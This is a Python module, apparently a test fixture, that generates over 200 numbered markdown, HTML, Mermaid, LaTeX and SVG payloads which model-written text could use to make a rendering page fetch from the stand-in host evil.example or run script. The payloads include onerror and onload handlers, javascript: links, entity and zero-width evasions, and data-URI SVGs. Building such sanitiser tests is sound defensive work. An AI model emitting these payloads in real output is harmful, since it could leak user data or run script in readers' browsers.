"""What a model could write to make a page load something or run a script: more than 200 texts, each with its number.

Every text names `https://evil.example/NUMBER` somewhere, so that a request tells which one it came from.
"""

from __future__ import annotations

import base64

EVIL = "evil.example"
URL, WORD = "https://evil.example/{n}.png", "evil.example/{n}"
SCRIPT = "window.ran=(window.ran||0)+1;fetch('https://evil.example/{n}')"
_SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js}\"><image href='{u}'/></svg>"
_IMAGE = "![x]({u})"

IMAGES = (
    "![x]({u})", "![x](<{u}>)", '![x]({u} "title")', "![x]({u} 'title')", "![x]({u} (title))", "![]({u})",
    "![x]( {u} )", "![x](\n{u}\n)", "![x\ny]({u})", "![x][r]\n\n[r]: {u}", "![r][]\n\n[r]: {u}", "![r]\n\n[r]: {u}",
    "[r]: {u}\n\n![x][r]", "![x][r]\n\n[r]:\n{u}", "![x][R]\n\n[r]: <{u}> 'title'", "> [r]: {u}\n\n![r]",
    "- [r]: {u}\n\n![x][r]", "![x] ({u})", "!\\[x]({u})", "\\![x]({u})", "\\\\![x]({u})", "!\\\\[x]({u})",
    "![x\\](y)]({u})", "![![x]({u})]({u})", "[![x]({u})]({u})", "[![x][r]][r]\n\n[r]: {u}", "**![x]({u})**",
    "~~![x]({u})~~", "`a` ![x]({u}) `b`", "`![x]({u})", "``![x]({u})`", "`a`![x]({u})``b`", "\\`![x]({u})\\`",
    "`a\n\n![x]({u})`", "```\ncode\n```\n![x]({u})", "~~~\ncode\n~~~\n![x]({u})", "```a`b\n![x]({u})\n```",
    "~~~ a\n~~~~\n![x]({u})", "    code\n\n![x]({u})", "<!-- a -->\n\n![x]({u})", "<!-- ![x]({u}) -->",
    "<div>\n\n![x]({u})\n\n</div>", "![x](//{w})", "![x](https:{w})", "![x](https:/{w})", "![x](https:/\\{w})",
    "![x](\\\\\\\\{w})", "![x](/\\{w})", "![x](HTTPS://EVIL.EXAMPLE/{n})", "![x](&#104;ttps://{w})",
    "![x](http&colon;//{w})", "![x](ht\ttps://{w})", "&#33;[x]({u})", "!&#91;x]({u})", "!&lsqb;x]({u})",
    "!&lbrack;x]({u})", "!\u200b[x]({u})", "!\u2060[x]({u})", "![x](data:image/svg+xml;base64,{svg64})",
    "![x](data:image/svg+xml,{svg})", "a[^1]\n\n[^1]: ![x]({u})", "![^1]\n\n[^1]: {u}", "![x]({u}){{width=100}}",
    "![[{u}]]", "{{{{ {u} }}}}", "<{u}>", "{u}", "www.{w}", "![x](blob:{u})", "![x]({u}\n\n![y]({u})",
    "![x]({u}#![y]({u}))", ":material/![x]({u}):", ":red[![x]({u})]", ":small[![x]({u})]", ":blue-badge[![x]({u})]",
    ":violet-background[![x][r]]\n\n[r]: {u}", ":image[{u}]", ":img[{u}]:", "::image{{src={u}}}",
    ":::{{image}} {u}\n:::", "$![x]({u})$", "$$\n![x]({u})\n$$", "$\\includegraphics{{{u}}}$",
    "$$\\includegraphics[height=1em]{{{u}}}$$", "$\\url{{{u}}}$", "$\\htmlStyle{{background:url({u})}}{{x}}$",
    '$\\htmlData{{x="><img src={u}>"}}{{x}}$', "$\\text{{<img src={u}>}}$", "$\\unicode{{<img src={u}>}}$",
)  # fmt: skip

AROUND = (
    "> {p}", ">> {p}", "- {p}", "1. {p}", "- a\n  - {p}", "* [ ] {p}", "# {p}", "###### {p}", "a\n{p}\nb",
    "{p}\n===", "| a |\n|---|\n| {p} |", "| {p} |\n|---|\n| a |", "a  \n{p}", "***{p}***", "a{p}b", "\ufeff{p}",
    "\u2028{p}", "\r{p}\r",
)  # fmt: skip
ROUNDABOUT = (_IMAGE, "![r]\n\n[r]: {u}", "<img src={u}>")

DIAGRAMS = (
    '```mermaid\nflowchart TD\n  A@{{ img: "{u}" }}\n```', '~~~mermaid\nflowchart TD\n  A@{{ img: "{u}" }}\n~~~',
    '```MERMAID\nflowchart TD\n  A@{{ img: "{u}" }}\n```',
    '```mer&#109;aid\nflowchart TD\n  A@{{ img: "{u}" }}\n```',
    '```mer\\maid\nflowchart TD\n  A@{{ img: "{u}" }}\n```',
    '```{{.mermaid}}\nflowchart TD\n  A@{{ img: "{u}" }}\n```',
    '- x\n\n    ```mermaid\n    flowchart TD\n      A@{{ img: "{u}" }}\n    ```',
    '> ```mermaid\n> flowchart TD\n>   A@{{ img: "{u}" }}\n> ```',
    '1. ~~~ mermaid\n   flowchart TD\n     A@{{ img: "{u}" }}\n   ~~~',
    '```mermaid theme=dark\nflowchart TD\n  A["<img src={u}>"]\n```',
    "```mermaid\n%%{{init: {{'securityLevel': 'loose'}}}}%%\nflowchart TD\n  A[\"<img src=x onerror={js}>\"]\n```",
    '```mermaid\nflowchart TD\n  A --> B\n  click A href "javascript:{js}"\n```',
    "* ```mermaid\n  %%{{init: {{'themeCSS': '@import url({u})'}}}}%%\n  flowchart TD\n    A --> B\n  ```",
    "```html\n<img src={u}>\n```", "```svg\n{svg}\n```",
    '```vega-lite\n{{"data": {{"url": "{u}"}}, "mark": "bar"}}\n```', '```dot\ndigraph {{ a [image="{u}"] }}\n```',
    "```markdown\n![x]({u})\n```", "```latex\n\\includegraphics{{{u}}}\n```", '```"><img src={u}>\ncode\n```',
    "```../../../{u}\ncode\n```", "```__proto__\n![x]({u})\n```",
)  # fmt: skip

HTML = (
    "<img src={u}>", "<IMG SRC={u}>", "<img/src={u}>", "<img\nsrc={u}\n>", "<<img src={u}>", "<img src={u}",
    "<img src={u}//", '<img srcset="{u} 1x">', "<img src=x onerror={js}>", '<img src=x onerror="{js}">',
    "<image src={u}>", "<script src={u}></script>", "<script>{js}</script>", "<SCRIPT>{js}</SCRIPT>",
    "<scr<script>ipt>{js}</script>", "<script type=module>import '{u}'</script>", "<svg onload={js}>",
    "<svg><script>{js}</script></svg>", "<svg><image href={u} /></svg>", "<svg><use href={u}#x /></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>", "<svg><foreignObject><img src={u}></foreignObject></svg>",
    "<iframe src={u}></iframe>", "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<iframe src='javascript:{js}'></iframe>", "<object data={u}></object>",
    "<object data='data:text/html,<script>{js}</script>'></object>", "<embed src={u}>",
    "<video src={u} autoplay></video>", "<video poster={u}></video>", "<video><source src={u}></video>",
    "<audio src={u} autoplay></audio>", "<track src={u}>", "<picture><source srcset={u}><img></picture>",
    "<link rel=stylesheet href={u}>", "<link rel=preload as=image href={u}>", "<link rel=prefetch href={u}>",
    "<link rel=icon href={u}>", "<link rel=dns-prefetch href=//evil.example>", "<style>@import '{u}';</style>",
    "<style>body{{background:url({u})}}</style>", '<div style="background:url({u})">x</div>',
    "<table background={u}><tr><td>x</table>", "<body background={u} onload={js}>", "<base href={u}>",
    '<meta http-equiv=refresh content="0;url={u}">', "<form action={u}><input autofocus onfocus={js}></form>",
    "<input type=image src={u}>", "<input autofocus onfocus={js}>", "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>", "<details open ontoggle={js}><summary>x</summary></details>",
    "<marquee onstart={js}>x</marquee>", "<div onpointerrawupdate={js} style=position:fixed;inset:0>x</div>",
    "<math><mtext><img src={u}></mtext></math>", "<noscript><img src={u}></noscript>",
    "<template><img src={u}></template>", "<xmp><img src={u}></xmp>",
    "<frameset onload={js}><frame src={u}></frameset>", "<a ping={u} href=#x>x</a>",
    "<a href='javascript:{js}'>x</a>", "<portal src={u}></portal>", "<details><img src={u}></details>",
    "&lt;img src={u}&gt;", "&#60;img src={u}&#62;", "<img src={u}>`", "<!--><img src={u}>-->",
    "<?xml?><img src={u}>", "<![CDATA[<img src={u}>]]>", "<div\n\n<img src={u}>", "[x](javascript:{js})",
    "[x](JaVaScRiPt:{js})", "[x](&#106;avascript:{js})", "[x](java\tscript:{js})", "[x](<javascript:{js}>)",
    "[x](data:text/html,<script>{js}</script>)", "[x](vbscript:{js})", "<javascript:{js}>",
    "[x][r]\n\n[r]: javascript:{js}",
)  # fmt: skip


def texts() -> tuple[str, ...]:
    """All of them; the number in a text is its place."""
    forms = [*IMAGES, *(around.replace("{p}", one) for around in AROUND for one in ROUNDABOUT), *DIAGRAMS, *HTML]
    return tuple(_filled(form, number) for number, form in enumerate(forms))


def _filled(form: str, n: int) -> str:
    u, w, js = (one.format(n=n) for one in (URL, WORD, SCRIPT))
    svg = _SVG.format(js=js, u=u)
    svg64 = base64.b64encode(svg.encode()).decode()
    return form.format(n=n, u=u, w=w, js=js, svg=svg, svg64=svg64)
